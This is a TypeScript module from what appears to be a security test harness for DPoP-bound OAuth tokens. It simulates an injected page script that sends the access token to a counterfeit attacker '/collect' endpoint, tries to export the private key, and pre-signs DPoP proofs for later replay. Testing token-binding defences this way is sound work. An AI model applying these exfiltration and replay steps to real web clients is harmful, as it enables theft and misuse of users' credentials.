import type { Dpop } from '../../../oauth/index.ts';
import type { Middleware } from '../wire/recorder.ts';
import type { CopiedCall } from './copied-call.ts';
import type { Run } from './run.ts';
import { COUNTERFEIT, serverOf } from './server-of.ts';
import { createTabPlatform } from './tab-platform.ts';
import { formMessage } from './token-request.ts';

/** The server of the attacker, which receives what a script sends. */
export const attackersServer: Middleware = (next) => async (url, init) =>
  serverOf(url) === 'attacker' ? new Response(null, { status: 204 }) : next(url, init);

/** A script in the page sends the attacker the access token, and everything else that the script has taken. */
export async function bringToAttacker(run: Run, taken: string): Promise<void> {
  const token = run.memory.getSnapshot() ?? '';
  await run.send(formMessage(`${run.origin}${COUNTERFEIT}/collect`, { taken, token }));
}

/**
 * A script in the page asks the browser for the private key.
 *
 * @returns the key as a JWK, or the name of the error by which the browser refuses to export it.
 */
export async function exportKey({ privateKey }: CryptoKeyPair): Promise<string> {
  try {
    return JSON.stringify(await crypto.subtle.exportKey('jwk', privateKey));
  } catch (error) {
    if (error instanceof DOMException) return error.name;
    throw error;
  }
}

/** A script makes the page sign a proof for a call at a later time. Nothing is sent. */
export async function signForLater(
  run: Run,
  binding: Dpop,
  { request, token }: CopiedCall,
  laterMs: number,
): Promise<string> {
  let made = '';
  const later = createTabPlatform({
    now: () => run.now() + laterMs,
    // The script keeps the proof.
    async fetch(_url, { headers }) {
      made = new Headers(headers).get('DPoP') ?? '';
      return new Response();
    },
  });
  const { method, url, headers, body } = request;
  const grant = { jkt: thumbprintIn(token), accessToken: token };
  await binding.present(later, grant)(url, { method, headers, body });
  return made;
}

/** The thumbprint of the key that a token is bound to (RFC 9449 §6.1). */
export function thumbprintIn(token: string): string {
  const payload = token.split('.')[1]?.replaceAll('-', '+').replaceAll('_', '/') ?? '';
  const { cnf }: { cnf?: { jkt?: unknown } } = Object(JSON.parse(atob(payload)));
  return String(cnf?.jkt);
}
